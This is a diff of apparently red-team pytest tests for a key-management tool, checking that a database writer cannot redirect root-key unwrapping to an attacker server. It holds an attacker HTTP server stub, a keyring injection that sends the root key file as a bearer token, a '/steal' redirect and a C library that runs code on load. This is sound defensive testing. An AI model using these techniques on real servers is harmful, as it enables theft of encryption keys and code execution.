@@ -16,81 +16,25 @@ import json
 import os
 import shutil
 import subprocess
-import threading
 import time
 from collections.abc import Iterator
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
 import pytest
+import redteam_root_helpers as rt
 import root_helpers as rh
 import sqlalchemy as sa
-from cryptography.exceptions import InvalidTag
-from cryptography.hazmat.primitives.ciphers.aead import AESGCM
 
 from qimem import fileio
-from qimem.app import AppContext
 from qimem.builtin_plugins.root_qimem_provider import QimemRootKeyProvider, read_credential
 from qimem.errors import ConfigError, DecryptionError
 from qimem.root import keyring as kr
 from qimem.root import rotation
-from qimem.root.kwk import check_value, wrapping_key
+from qimem.root.kwk import check_value
 from qimem.rootkey import encode_root_key, generate_root_key, read_root_key_file
 from qimem.services.crypto import encrypt
 from qimem.services.keys import create_key
-
-# -- an attacker's upstream: records what it is sent, answers what he wants --------------------
-
-
-class EvilUpstream:
-    """A loopback HTTP server standing in for the attacker's machine (in the field: any
-    https host with a publicly trusted certificate). It records every request's headers and
-    body and answers a decrypt with ``kwk`` (the key-wrapping key the attacker chose)."""
-
-    def __init__(self, kwk: bytes, key_id: str, *, status: int = 200, extra: bytes = b"") -> None:
-        self.kwk, self.key_id, self.status, self.extra = kwk, key_id, status, extra
-        self.seen: list[tuple[str, dict[str, str], bytes]] = []
-        outer = self
-
-        class Handler(BaseHTTPRequestHandler):
-            def do_POST(self) -> None:  # noqa: N802 (http.server's name)
-                length = int(self.headers.get("Content-Length") or 0)
-                body = self.rfile.read(length)
-                outer.seen.append((self.path, dict(self.headers), body))
-                if outer.status in (301, 302, 307, 308):
-                    self.send_response(outer.status)
-                    self.send_header("Location", "http://127.0.0.1:9/steal")
-                    self.send_header("Content-Length", "0")
-                    self.end_headers()
-                    return
-                answer = json.dumps(
-                    {"plaintext": base64.b64encode(outer.kwk).decode(), "key_id": outer.key_id}
-                ).encode()
-                answer += outer.extra
-                self.send_response(outer.status)
-                self.send_header("Content-Type", "application/json")
-                self.send_header("Content-Length", str(len(answer)))
-                self.end_headers()
-                self.wfile.write(answer)
-
-            def log_message(self, *args: Any) -> None:
-                pass
-
-        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
-        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)
-        self._thread.start()
-
-    def sent(self) -> bytes:
-        return b"".join(
-            path.encode() + json.dumps(headers).encode() + body for path, headers, body in self.seen
-        )
-
-    def close(self) -> None:
-        self.server.shutdown()
-        self.server.server_close()
-
 
 # -- a file-rooted SQLite store that was rotated once (version 2 active) ----------------------
 
@@ -114,42 +58,6 @@ def victim(tmp_path: Path) -> Iterator[tuple[str, Path, bytes]]:
     yield url, key_file, envelope
 
 
-def _inject(url: str, provider: str, settings: dict[str, Any], wrapped: bytes, check: str) -> None:
-    """As the database writer: add version 3 (``provider`` with ``settings``) as the active
-    version, the previous active one draining: what a rotation in progress looks like."""
-    doc = json.loads(rh.keyring_text(url) or "")
-    for version in doc["versions"]:
-        if version["state"] == "active":
-            version["state"] = "draining"
-    doc["versions"].append(
-        {
-            "version": 3,
-            "provider": provider,
-            "settings": settings,
-            "check": check,
-            "created": "2026-12-04T01:00:00Z",
-            "state": "active",
-            "wrapped": base64.b64encode(wrapped).decode(),
-        }
-    )
-    doc["active"] = 3
-    rh.set_keyring_text(url, json.dumps(doc))
-
-
-def _envelope_key_id(envelope: bytes) -> str:
-    from qimem import envelope as env
-
-    return env.parse(envelope).key_id_str
-
-
-def _open_quietly(url: str, key_file: Path) -> AppContext | None:
-    """The store opened as a server would at its next start (``None``: it refused)."""
-    try:
-        return rh.file_app(url, key_file)
-    except ConfigError:
-        return None
-
-
 FINDING_1 = (
     "finding 1 (critical): a database writer chooses a root version's provider settings "
     "(url, token_file, library...) and the server uses them as configuration"
@@ -163,11 +71,11 @@ def test_db_writer_cannot_send_a_local_secret_file_to_his_server(
     """A ``qimem`` version whose ``token_file`` is the server's root key file and whose
     ``url`` is the attacker's: the server reads the file and sends it as a bearer token."""
     url, key_file, envelope = victim
-    evil = EvilUpstream(os.urandom(32), _envelope_key_id(envelope))
+    evil = rt.EvilUpstream(os.urandom(32), rt.envelope_key_id(envelope))
     try:
         settings = {"url": evil.url, "key": "k", "token_file": str(key_file), "timeout": 2}
-        _inject(url, "qimem", settings, b"\x01" + envelope, "00" * 16)
-        app = _open_quietly(url, key_file)
+        rt.inject(url, "qimem", settings, b"\x01" + envelope, "00" * 16)
+        app = rt.open_quietly(url, key_file)
         if app is not None:
             rh.close(app)
         root_key = key_file.read_text().strip().encode()
@@ -186,48 +94,25 @@ def test_db_writer_cannot_make_the_server_wrap_new_keys_under_his_kwk(
     reads it from the database he can already read."""
     url, key_file, envelope = victim
     kwk = os.urandom(32)
-    evil = EvilUpstream(kwk, _envelope_key_id(envelope))
+    evil = rt.EvilUpstream(kwk, rt.envelope_key_id(envelope))
     token = tmp_path / "any-0600-file"
     fd = os.open(token, os.O_WRONLY | os.O_CREAT, 0o600)
     os.write(fd, b"whatever\n")
     os.close(fd)
     try:
         settings = {"url": evil.url, "key": "k", "token_file": str(token), "timeout": 2}
-        _inject(url, "qimem", settings, b"\x01" + envelope, check_value(kwk))
-        app = _open_quietly(url, key_file)
+        rt.inject(url, "qimem", settings, b"\x01" + envelope, check_value(kwk))
+        app = rt.open_quietly(url, key_file)
         if app is None:
             return  # refused: the attack failed
         try:
             create_key(app, name="victim-key")
-            stolen = _rows_opened_with(app, kwk)
+            stolen = rt.rows_opened_with(app, kwk)
         finally:
             rh.close(app)
         assert stolen == 0, f"{stolen} new wrapped rows open under the attacker's KWK"
     finally:
         evil.close()
-
-
-def _rows_opened_with(app: AppContext, kwk: bytes) -> int:
-    """How many wrapped rows of the store a reader holding ``kwk`` opens (what the attacker
-    does with his database copy: the rows' contexts are public row identities)."""
-    rows = rotation.root_rows(app)
-    assert rows is not None
-    aead = AESGCM(wrapping_key(kwk))
-    opened = 0
-    with rows.engine.connect() as conn:
-        for column in rows.columns:
-            table = sa.Table(column.table, sa.MetaData(), autoload_with=conn)
-            for row in conn.execute(sa.select(table)):
-                blob = row._mapping[column.blob]
-                if blob is None or bytes(blob)[0] != 2:
-                    continue
-                blob = bytes(blob)
-                try:
-                    aead.decrypt(blob[5:17], blob[17:], column.context(row))
-                    opened += 1
-                except InvalidTag:
-                    pass
-    return opened
 
 
 @pytest.mark.xfail(strict=True, reason=FINDING_1)
@@ -237,11 +122,11 @@ def test_a_running_server_does_not_follow_an_injected_version(
     """Not only at the next restart: a running process re-reads the keyring before it
     wraps (about once a second) and opens the injected version then."""
     url, key_file, envelope = victim
-    evil = EvilUpstream(os.urandom(32), _envelope_key_id(envelope))
+    evil = rt.EvilUpstream(os.urandom(32), rt.envelope_key_id(envelope))
     app = rh.file_app(url, key_file)
     try:
         settings = {"url": evil.url, "key": "k", "token_file": str(key_file), "timeout": 2}
-        _inject(url, "qimem", settings, b"\x01" + envelope, "00" * 16)
+        rt.inject(url, "qimem", settings, b"\x01" + envelope, "00" * 16)
         time.sleep(1.2)  # past REFRESH_SECONDS
         with contextlib.suppress(ConfigError):
             create_key(app, name="during-the-attack")
@@ -257,29 +142,19 @@ def test_an_upstream_answering_another_kwk_is_refused_by_the_check_value(
     """Guard: an upstream (compromised, or an attacker's) that answers a KWK of its choice
     for a version whose check value it does not control is refused at open."""
     url, key_file, envelope = victim
-    evil = EvilUpstream(os.urandom(32), _envelope_key_id(envelope))
+    evil = rt.EvilUpstream(os.urandom(32), rt.envelope_key_id(envelope))
     token = tmp_path / "token"
     fd = os.open(token, os.O_WRONLY | os.O_CREAT, 0o600)
     os.write(fd, b"service-token\n")
     os.close(fd)
     try:
         settings = {"url": evil.url, "key": "k", "token_file": str(token), "timeout": 2}
-        _inject(url, "qimem", settings, b"\x01" + envelope, check_value(os.urandom(32)))
+        rt.inject(url, "qimem", settings, b"\x01" + envelope, check_value(os.urandom(32)))
         with pytest.raises(ConfigError, match="different key"):
             rh.file_app(url, key_file)
         assert evil.seen  # it was asked, and its answer was refused
     finally:
         evil.close()
-
-
-_EVIL_SO = r"""
-#include <stdio.h>
-#include <stdlib.h>
-__attribute__((constructor)) static void pwned(void) {
-    const char *marker = getenv("REDTEAM_MARKER");
-    if (marker) { FILE *f = fopen(marker, "w"); if (f) { fputs("code ran", f); fclose(f); } }
-}
-"""
 
 
 @pytest.mark.xfail(strict=True, reason=FINDING_1)
@@ -295,13 +170,13 @@ def test_db_writer_cannot_make_the_server_load_his_pkcs11_library(
         pytest.skip("no C compiler to build the attacker's shared object")
     url, key_file, _ = victim
     source, library = tmp_path / "evil.c", tmp_path / "evil.so"
-    source.write_text(_EVIL_SO)
+    source.write_text(rt.EVIL_SO)
     subprocess.run([compiler, "-shared", "-fPIC", "-o", str(library), str(source)], check=True)
     pin = tmp_path / "pin"
     pin.write_text("1234\n")
     pin.chmod(0o600)
     settings = {"library": str(library), "token_label": "t", "key_label": "k", "pin_file": str(pin)}
-    _inject(url, "pkcs11", settings, b"\x01" * 60, "00" * 16)
+    rt.inject(url, "pkcs11", settings, b"\x01" * 60, "00" * 16)
     marker = tmp_path / "marker"
     config = rh.write_config(tmp_path, url, root_file=key_file)
     result = rh.qimem_cli(config, "root", "status", timeout=60, REDTEAM_MARKER=str(marker))
@@ -386,36 +261,6 @@ def test_legitimate_keyrings_still_parse(rotated_twice: tuple[str, str]) -> None
 # -- finding 3: secret files that are FIFOs hang startup forever ---------------------------------
 
 
-def _fifo(tmp_path: Path, name: str) -> Path:
-    path = tmp_path / name
-    os.mkfifo(path, 0o600)
-    return path
-
-
-def _returns_quickly(tmp_path: Path, name: str, read: Any) -> BaseException | None:
-    """``read(fifo)`` in a thread: what it raised, or a failure if it blocked (the FIFO is
-    then opened for writing and closed, so the blocked reader sees EOF and ends)."""
-    fifo = _fifo(tmp_path, name)
-    outcome: list[BaseException | None] = []
-
-    def run() -> None:
-        try:
-            read(fifo)
-            outcome.append(None)
-        except BaseException as exc:  # noqa: BLE001 - handed to the test
-            outcome.append(exc)
-
-    thread = threading.Thread(target=run, daemon=True)
-    thread.start()
-    thread.join(3)
-    if thread.is_alive():
-        fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
-        os.close(fd)
-        thread.join(5)
-        pytest.fail(f"reading a FIFO as the {name} blocked (a startup that never ends)")
-    return outcome[0]
-
-
 @pytest.mark.parametrize(
     "name,read",
     [
@@ -427,7 +272,7 @@ def _returns_quickly(tmp_path: Path, name: str, read: Any) -> BaseException | No
 def test_fifo_secret_file_is_refused_not_waited_on(tmp_path: Path, name: str, read: Any) -> None:
     """Finding 3: a secret file path naming a FIFO (a config typo, or a database writer's
     recorded settings) made the open block until someone wrote to it."""
-    error = _returns_quickly(tmp_path, name, read)
+    error = rt.returns_quickly(tmp_path, name, read)
     assert isinstance(error, ConfigError), error
     assert "not a regular file" in str(error)
 
@@ -482,7 +327,7 @@ def _provider(url: str, tmp_path: Path, **extra: Any) -> QimemRootKeyProvider:
 
 def test_upstream_redirect_is_not_followed(victim: tuple[str, Path, bytes], tmp_path: Path) -> None:
     _, _, envelope = victim
-    evil = EvilUpstream(os.urandom(32), _envelope_key_id(envelope), status=307)
+    evil = rt.EvilUpstream(os.urandom(32), rt.envelope_key_id(envelope), status=307)
     try:
         provider = _provider(evil.url, tmp_path)
         with pytest.raises(ConfigError) as caught:
@@ -495,7 +340,7 @@ def test_upstream_redirect_is_not_followed(victim: tuple[str, Path, bytes], tmp_
 
 def test_upstream_huge_answer_is_bounded(victim: tuple[str, Path, bytes], tmp_path: Path) -> None:
     _, _, envelope = victim
-    evil = EvilUpstream(os.urandom(32), _envelope_key_id(envelope), extra=b" " * (8 << 20))
+    evil = rt.EvilUpstream(os.urandom(32), rt.envelope_key_id(envelope), extra=b" " * (8 << 20))
     try:
         with pytest.raises(ConfigError):
             _provider(evil.url, tmp_path).unwrap(b"\x01" + envelope, b"ctx")
@@ -508,7 +353,7 @@ def test_upstream_answering_another_length_is_a_decryption_error(
     victim: tuple[str, Path, bytes], tmp_path: Path, size: int
 ) -> None:
     _, _, envelope = victim
-    evil = EvilUpstream(os.urandom(size), _envelope_key_id(envelope))
+    evil = rt.EvilUpstream(os.urandom(size), rt.envelope_key_id(envelope))
     try:
         with pytest.raises((DecryptionError, ConfigError)):
             _provider(evil.url, tmp_path).unwrap(b"\x01" + envelope, b"ctx")
